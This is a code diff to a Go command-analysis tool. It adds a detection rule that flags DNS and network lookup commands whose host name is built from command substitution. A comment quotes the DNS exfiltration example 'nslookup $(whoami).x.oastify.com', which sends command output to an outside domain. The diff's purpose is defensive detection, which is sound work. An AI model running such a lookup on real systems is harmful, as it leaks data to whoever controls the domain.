@@ -197,6 +197,9 @@ var programChecks = sync.OnceValue(func() map[string][]func(*analysis) {
 		m[n] = append(m[n], (*analysis).loopbackRequest)
 	}
 	m["ssh"] = append(m["ssh"], (*analysis).forgeAuthCheck)
+	for _, n := range []string{"dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "getent", "resolvectl", "kdig"} {
+		m[n] = append(m[n], (*analysis).substitutedHostName)
+	}
 	for _, n := range []string{"pg_dump", "pg_dumpall", "mysqldump", "mongodump", "mongoexport"} {
 		m[n] = append(m[n], (*analysis).dataDump)
 	}
@@ -528,6 +531,21 @@ func (a *analysis) forgeAuthCheck() {
 	switch strings.ToLower(ops[0]) {
 	case "git@github.com", "git@gitlab.com", "git@bitbucket.org", "git@ssh.dev.azure.com", "git@codeberg.org", "git@git.sr.ht":
 		a.r.Mutates = ""
+	}
+}
+
+// substitutedHostName: a name lookup of a host name built from a command's
+// output (nslookup $(whoami).x.oastify.com): the lookup carries the output
+// to whoever serves the domain.
+func (a *analysis) substitutedHostName() {
+	for i, arg := range a.c.Args {
+		if i >= len(a.c.DynamicArgs) || !a.c.DynamicArgs[i] || strings.HasPrefix(arg, "-") {
+			continue
+		}
+		if (strings.Contains(arg, "$(") || strings.Contains(arg, "`")) && strings.Contains(arg, ".") {
+			a.r.hostCarries = arg
+			return
+		}
 	}
 }
 
